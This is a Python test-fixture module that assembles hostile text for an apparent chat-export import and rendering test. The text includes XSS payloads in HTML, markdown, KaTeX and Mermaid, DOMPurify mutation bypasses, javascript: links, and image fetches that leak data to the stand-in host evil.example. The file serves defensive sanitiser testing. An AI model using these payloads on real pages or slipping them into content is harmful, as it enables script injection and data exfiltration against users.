r"""Texts that would run, navigate or fetch something if a page took them for more than text.

Whatever gets through sets `window.pwned`, opens a dialog, leaves the page or asks `EVIL` for something.
The manners are those of the OWASP XSS filter evasion sheet, of the mutations that got past DOMPurify
(CVE-2019-20374, CVE-2020-26870, CVE-2024-45801) and of KaTeX's own list of what `trust` lets in.
"""

import json

EVIL = "evil.example"
RUN = "window.pwned=1"

LINES = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"'\"--></style></script><script>{RUN}</script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=//{EVIL}><button>x</button></form>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<style>@import '//{EVIL}/x.css';*{{background:url(//{EVIL}/x)}}</style>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    f"<object data=//{EVIL}/x></object><embed src=//{EVIL}/x>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}><video src=x onerror={RUN}>",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
    f"\u202e<img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"[x](javascript:{RUN}) ![x](https://{EVIL}/x.png)",
]
"""Each fits into a name or a title."""

RAW_HTML = [
    *LINES,
    f"<ScRiPt/x>{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</script>",
    f'<img src="https://{EVIL}/raw.png" srcset="https://{EVIL}/2x.png 2x">',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f'<svg><animate onbegin={RUN} attributeName=x dur=1s><use href="//{EVIL}/x.svg#x"/></svg>',
    f"<svg><foreignObject><iframe src=//{EVIL}></iframe></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "<form><math><mtext></form><form><mglyph><style></math>" + f"<img src=x onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<template><img src=x onerror={RUN}></template><select><style><img src=x onerror={RUN}></select>",
    f"<!--><img src=x onerror={RUN}>--> <![CDATA[<img src=x onerror={RUN}>]]> <?x <svg onload={RUN}> ?>",
    f"<div style=\"background:url('//{EVIL}/x.png');width:expression({RUN})\" onclick={RUN}>x</div>",
    f"<p id=chat-root name=body><a id=defaultView name=x href=//{EVIL}>x</a>",
    f"<audio autoplay src=//{EVIL}/x.mp3><source onerror={RUN}></audio>",
    f"<body onload={RUN}><frameset onload={RUN}><marquee onstart={RUN}>x</marquee>",
    f"<table background=//{EVIL}/x.png><tr><td background=javascript:{RUN}>x</table>",
]

LINKS = [
    f"[l1](javascript:{RUN})",
    f"[l2](JaVaScRiPt:{RUN})",
    f"[l3](java&#115;cript:{RUN})",
    f"[l4](&#x6A;avascript&colon;{RUN})",
    f"[l5](<java\tscript:{RUN}>)",
    f"[l6](<  javascript:{RUN}>)",
    f"[l7](\x01javascript:{RUN})",
    f"[l8](data:text/html,<script>opener.{RUN}</script>)",
    "[l9](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==)",
    f"[l10](vbscript:{RUN}) [l11](blob:https://{EVIL}/x) [l12](file:///etc/passwd)",
    f"[l13](javascript://%0a{RUN}) [l14](javascript&#0000058{RUN})",
    f"[l15][ref] [l16][] <javascript:{RUN}> <data:text/html,x>",
    f"[ref]: javascript:{RUN} 'x'\n[l16]: <javascript:{RUN}>",
    f"![i1](https://{EVIL}/pixel.png?q=secret) ![i2](//{EVIL}/x.png) ![i3][pixel]",
    f"[pixel]: https://{EVIL}/reference.png",
    f"![i4](javascript:{RUN}) ![i5](data:image/svg+xml,<svg/onload={RUN}>)",
    f'![i6](x"onerror="{RUN}) [![i7](https://{EVIL}/nested.png)](javascript:{RUN})',
    f'[l17](https://example.com "x" onmouseover={RUN} y=") [l18](https://example.com\'onclick=\'{RUN})',
    f"[<img src=x onerror={RUN}>](https://example.com/<script>{RUN}</script>)",
    f'<https://example.com/"onmouseover={RUN}//> https://example.com/<img/src=x/onerror={RUN}>',
]

FORMULAS = [
    rf"$\href{{javascript:{RUN}}}{{f1}}$ $\url{{javascript:{RUN}}}$",
    rf"$$\includegraphics[height=1em]{{https://{EVIL}/formula.png}}$$",
    rf"$\htmlData{{x=1 onclick={RUN}}}{{f2}}$ $\htmlClass{{x' onclick='{RUN}}}{{f3}}$",
    rf"$\htmlStyle{{background:url(//{EVIL}/x)}}{{f4}}$ $\htmlId{{x}}{{f5}}$",
    rf"$\text{{<img src=x onerror={RUN}>}}$ \(\unicode{{<script>{RUN}</script>}}\)",
    rf"$\def\x{{\href{{javascript:{RUN}}}{{f6}}}}\x$ $\color{{x;background:url(//{EVIL}/x)}}{{f7}}$",
    r"$\def\x{\x\x}\x$ \[" + f"<img src=x onerror={RUN}>" + r"\]",
]

BLOCKS = [
    f'```html"><img src=x onerror={RUN}>\n<img src=x onerror={RUN}>\n```',
    f"```<script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```",
    f"~~~js class=x onclick={RUN}\n</pre><img src=x onerror={RUN}>\n~~~",
    f"`</code><img src=x onerror={RUN}>` ``<script>{RUN}</script>``",
    f"| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n| --- | :---: |\n| ![x](//{EVIL}/t.png) | <b |",
    f"| a<br>b<br onclick={RUN}> |\n| --- |\n| <br/onload={RUN}><br style=background:url(//{EVIL}/x)/> |",
    f"# <img src=x onerror={RUN}>\n\n> <script>{RUN}</script>\n> - <svg onload={RUN}>",
    f"1. <iframe src=//{EVIL}>\n   - <img src=x onerror={RUN}>",
    f"- [ ] <input onfocus={RUN} autofocus>\n- [x] **<img src=x onerror={RUN}>** _<svg/onload={RUN}>_",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62; \\<img src=x onerror={RUN}\\>",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}> [l19](javascript:{RUN}) ![i8](https://{EVIL}/note.png)",
    f"[^<img/src=x/onerror={RUN}>]\n\n[^<img/src=x/onerror={RUN}>]: x\n\n    <script>{RUN}</script>",
    f'[^__proto__] [^"onmouseover={RUN}]\n[^__proto__]: x\n[^"onmouseover={RUN}]: ![](//{EVIL}/note.png)',
    f"[__proto__]: javascript:{RUN}\n\n[constructor][__proto__] [toString] [__proto__]",
    f"<div>\n\n*x* <img src=x onerror={RUN}>\n\n</div>",
]

DIAGRAMS = [
    f'flowchart LR\n  A["<img src=x onerror={RUN}>"] --> B["<script>{RUN}</script>"]',
    f'flowchart LR\n  A --> B\n  click A "javascript:{RUN}" _self',
    'flowchart LR\n  A --> B\n  click A call alert("x")\n  click B alert "x"',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'
    "flowchart LR\n  A[\"x' onclick='alert(1)\"] --> B",
    f'sequenceDiagram\n  links A: {{"x": "https://{EVIL}/x"}}\n  A->>A: &amp;lt;svg onload={RUN}&amp;gt;',
    f'C4Context\n  Person(a, "x", "y", $link="https://{EVIL}/x")',
    f'flowchart LR\n  A --> B\n  click A href "https://{EVIL}/x" _self',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n'
    f'flowchart LR\n  A["<img src=//{EVIL}/x.png>"]',
    f'%%{{init: {{"themeCSS": "*{{background:url(//{EVIL}/x.png)}}"}}}}%%\nflowchart LR\n  A --> B',
    f"---\nconfig:\n  securityLevel: loose\n  themeCSS: '@import \"//{EVIL}/x.css\"'\n---\n"
    "flowchart LR\n  A --> B",
    f'flowchart LR\n  A@{{ img: "https://{EVIL}/x.png", label: "x", w: 60, h: 60 }}',
    f'flowchart LR\n  A@{{ k: &k "i\\x6dg", *k : "//{EVIL}/x.png" }}',
    f'flowchart LR\n  A@{{ label: "\\x3cimg src=x onerror={RUN}>" }}',
    f'flowchart LR\n  A["#lt;img src=x onerror={RUN}#gt;"] --> B["&lt;img src=x onerror={RUN}&gt;"]',
    f"sequenceDiagram\n  A->>A: &#60;img src=x onerror={RUN}> <<img src=x onerror={RUN}>>",
    f"flowchart LR\n  A --> B\n  classDef x fill:url(https://{EVIL}/x.svg#a)\n  class A x",
    f"flowchart LR\n  A --> B\n  style A mask-image:u\\72l(//{EVIL}/x.png),filter:url/**/(//{EVIL}/x.svg#a)",
    f'flowchart LR\n  A["`![x](https://{EVIL}/x.png) **<img src=x onerror={RUN}>**`"]',
    f"flowchart LR\n  subgraph s [<svg onload={RUN}>]\n  A --> B\n  end",
    f"sequenceDiagram\n  participant A as <img src=x onerror={RUN}>\n"
    f"  link A: x @ javascript:{RUN}\n  A->>A: x",
    f'sequenceDiagram\n  links A: {{"x": "https://{EVIL}/x"}}\n  A->>A: <iframe src=//{EVIL}>',
    f'classDiagram\n  class S["<img src=x onerror={RUN}>"]\n'
    f'  link S "javascript:{RUN}"\n  callback S "alert"',
    f'stateDiagram-v2\n  state "<img src=x onerror={RUN}>" as s\n'
    f'  click s href "javascript:{RUN}"\n  [*] --> s',
    f"gantt\n  title <img src=x onerror={RUN}>\n  section x\n"
    f'  t :a, 2024-01-01, 3d\n  click a href "javascript:{RUN}"',
    f'C4Context\n  Person(a, "x", "<img src=x onerror={RUN}>", $sprite="https://{EVIL}/x.png")',
    f'pie title <img src=x onerror={RUN}>\n  "<script>{RUN}</script>" : 1',
    f"timeline\n  title <img src=x onerror={RUN}>\n  2024 : <iframe src=//{EVIL}>",
    f"kanban\n  a[<img src=//{EVIL}/x.png>]\n    b[x]@{{ ticket: '\" onclick={RUN}' }}",
    f"journey\n  title <svg onload={RUN}>\n  section x\n    <img src=x onerror={RUN}>: 5: Me",
    f'erDiagram\n  A ||--o{{ B : "<img src=x onerror={RUN}>"\n  style A fill:url(//{EVIL}/x.svg#a)',
    f"flowchart LR\n  accTitle: <script>{RUN}</script>\n  accDescr: <img src=x onerror={RUN}>\n  A --> B",
    f"</code></pre><img src=x onerror={RUN}>",
]
"""Mermaid's own ways to run, link and fetch: where it draws all the same, it draws a picture."""

END = "End of the hostile text."

_FENCES = [f"```mermaid\n{source}\n```" for source in DIAGRAMS]

TEXT = "\n\n".join([*RAW_HTML, *LINKS, *FORMULAS, *BLOCKS, *_FENCES, END])
"""All of it, as a message, a description or a system prompt."""


def file_of_chats() -> bytes:
    """Give a file of ours: a project of a hostile name with a chat for each title; every other one
    is archived.
    """
    moments = [f"2026-01-01T00:00:{59 - n}Z" for n in range(len(LINES))]
    chats = [
        {
            "id": f"c{n}",
            "title": title,
            "archived_at": None if n % 2 else moments[n],
            "last_message_at": moments[n],
            "messages": [
                {"id": "q", "role": "user", "content": TEXT},
                {"id": "a", "parent_id": "q", "role": "assistant", "content": TEXT},
            ],
        }
        for n, title in enumerate(LINES)
    ]
    project = {"name": LINES[0], "description": TEXT, "chats": chats}
    file = {"format": "chatbot-platform", "version": 1, "projects": [project]}
    return json.dumps(file).encode()
